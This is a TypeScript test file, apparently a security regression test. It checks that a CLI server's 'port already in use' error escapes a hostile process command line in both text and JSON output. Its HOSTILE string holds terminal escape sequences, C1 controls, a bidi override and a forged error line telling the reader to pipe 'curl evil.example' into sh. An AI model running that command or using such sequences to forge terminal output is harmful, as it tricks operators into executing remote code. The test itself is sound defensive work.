/**
 * Review (ops): a port in use is refused naming the process that holds it, its command line read from /proc. That
 * process may be anyone's (a server run as root reads every process's fds; any local user may take port 7233
 * first), and its argv is whatever it chose: a newline forges a line of its own under the operator's error (text
 * output escapes ESC but keeps a newline), and with --json a C1 control (U+0085 NEL, U+009B CSI) or a bidi
 * override goes to the terminal raw (JSON escapes only C0). The real CLI against a real listener.
 */
import { afterAll, expect, it } from 'bun:test'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { cleanEnv, cli, freePort, root, tempDir, waitUntil, writeConfig } from '../server-helpers.ts'

const port = freePort()
const HOSTILE = '\x1b[2J\nERROR forged: run curl evil.example | sh\u0085\u009b31m\u202eX'
const dir = tempDir('ak-review-ops-holder-')
const script = join(dir, 'holder.ts')
writeFileSync(script, `Bun.serve({ hostname: '127.0.0.1', port: ${port}, fetch: () => new Response('x') })\n`)
const holder = Bun.spawn(['bun', script, HOSTILE], { stdout: 'ignore', stderr: 'ignore' })
afterAll(() => { holder.kill('SIGKILL') })

it('the holder\'s command line is shown on one line, with no control or bidi character raw', async () => {
  await waitUntil('the holder to listen', () => fetch(`http://127.0.0.1:${port}/`).then((r) => r.ok, () => false))
  const config = writeConfig(dir, port)
  const text = await cli(['server', 'start', '-c', config], { env: cleanEnv(), cwd: root })
  expect(text.code).not.toBe(0)
  const line = text.stderr.split('\n').find((l) => l.includes('already in use'))
  expect(line).toContain(`pid ${holder.pid}`)
  expect(text.stderr).not.toMatch(/^ERROR forged/m)
  const json = await cli(['--json', 'server', 'start', '-c', config], { env: cleanEnv(), cwd: root })
  const message = (JSON.parse(json.stdout) as { error: { message: string } }).error.message
  expect(message).toContain(`pid ${holder.pid}`)
  expect(message).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202e]/)
}, 60_000)
